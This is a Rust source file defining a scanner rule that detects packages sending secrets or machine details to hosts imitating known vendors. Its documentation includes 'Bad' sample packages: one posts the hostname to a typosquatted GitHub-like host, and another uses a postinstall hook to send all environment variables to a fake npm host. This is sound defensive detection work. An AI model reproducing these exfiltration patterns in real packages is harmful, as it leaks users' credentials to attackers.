//! # Data leaves for a host that imitates a vendor's
//!
//! At install or import secrets, facts of the machine or its environment go to a host whose name is a known
//! vendor's with another ending, a word or a slip.
//!
//! ## Why it matters
//!
//! Logs and reviewers pass over a host that sounds right. TeamPCP sent to imitations of the scanners whose releases
//! it had poisoned.
//!
//! ## Known benign uses
//!
//! Vendors' own hosts, of which the rule has a list, and what the release says of itself.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! const { hostname } = require("os");
//! fetch("https://telemetry.githubb.invalid/v1/traces", { method: "POST", body: hostname() }); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node audit.mjs"}}
//! == audit.mjs
//! import https from "node:https";
//! const request = https.request({ hostname: "npm-audit.npmjs.invalid", method: "PUT" });
//! request.end(JSON.stringify(process.env)); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! exports.report = (name) => fetch("https://api.github.com/repos/acme/x/issues", { method: "POST", body: name });
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! const { hostname } = require("os");
//! exports.hello = () => hostname();
//! fetch("https://api.github.com/rate_limit");
//! ```
//!
//! ## References
//!
//! - StepSecurity: TeamPCP imitated hosts of scanners (March 2026)

use stockade_facts::lookalike::borrowed;

use crate::prelude::*;

/// Data leaves for a host that imitates a vendor's.
pub struct DataSentToLookAlikeHost;

impl Rule for DataSentToLookAlikeHost {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "data-sent-to-look-alike-host",
            title: "Data leaves for a host that imitates a vendor's",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1036",
            covers: &["exfil-camouflage-host"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_told = |source: &Source| {
            source.is_secret()
                || matches!(source, Source::HostFact | Source::Variable(_) | Source::CommandOutput(_))
        };
        for flow in facts.flows(is_told, |sink| matches!(sink, Sink::Network(Some(_)))) {
            let Some(host) = flow.sink.host().filter(|host| !facts.says_host(host)) else { continue };
            if flow.trigger.runs_unasked() && borrowed::host(host.name()).is_some() {
                found.flow(flow);
            }
        }
    }
}
